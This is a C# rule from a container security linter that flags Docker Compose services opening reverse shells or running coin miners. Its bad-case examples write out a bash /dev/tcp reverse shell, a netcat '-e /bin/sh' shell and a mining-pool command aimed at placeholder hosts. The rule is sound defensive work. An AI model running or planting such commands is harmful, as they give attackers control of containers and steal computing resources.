using System.Collections.Immutable;
using Gabion.Model;
using Gabion.Model.Container;

namespace Gabion.Rules.Container.Deploy;

/// <summary>A service opens a shell to the network, or mines coins.</summary>
internal sealed class ServiceCommandIsHostile : Rule<ComposeService>
{
    public override RuleCard Card { get; } = new()
    {
        Id = RuleId.Parse("GBN-CON-186"),
        Title = "A service opens a shell to the network, or mines coins",
        Severity = Severity.Critical,
        Stage = Stage.Deploy,
        Why = "Whoever is at the other end has a shell in the container, or lives on your processors.",
        Fix = "Remove it, and find out who put it there.",
        References = ["https://docs.docker.com/reference/compose-file/services/#command", "https://attack.mitre.org/techniques/T1059/004/"],
        Controls = [new("MITRE-ATTACK", "T1059.004", ControlCoverage.Partial), new("MITRE-ATTACK", "T1496", ControlCoverage.Partial)],
    };

    public override ImmutableArray<Example> Examples =>
    [
        Example.Bad("compose.yaml", """
            services:
              a:
                image: a:1
                command: sh -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" <--
              b:
                image: b:1
                entrypoint: ["/bin/nc", "-e", "/bin/sh", "203.0.113.7", "4444"] <--
              c:
                image: c:1
                command: ["./run", "-o", "stratum+tcp://pool.example.com:3333"] <--
            """),
        Example.Good("compose.yaml", """
            services:
              a:
                image: a:1
                command: ["sh", "-c", "exec nginx -g 'daemon off;'"]
                healthcheck:
                  test: ["CMD-SHELL", "nc -z localhost 80 || exit 1"]
              b:
                image: b:1
                healthcheck:
                  test: ["CMD", "/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8085 && echo -e 'GET /' >&3 && grep OK -s -m 1 <&3"]
            """),
    ];

    public override IEnumerable<Problem> Check(ComposeService service) =>
        from run in ComposeCommands.Of(service)
        let isShell = RemoteControl.IsReverseShell(run.Command.Words, run.Command)
        where isShell || RemoteControl.IsMiner(run.Command.Words)
        group isShell by run.Field.Path into found
        let field = ComposeCommands.Of(service).First(run => run.Field.Path == found.Key).Field
        select Problem.At(field, found.Contains(true) ? $"Service '{service.Name}' opens a shell to the network" : $"Service '{service.Name}' runs a coin miner");
}
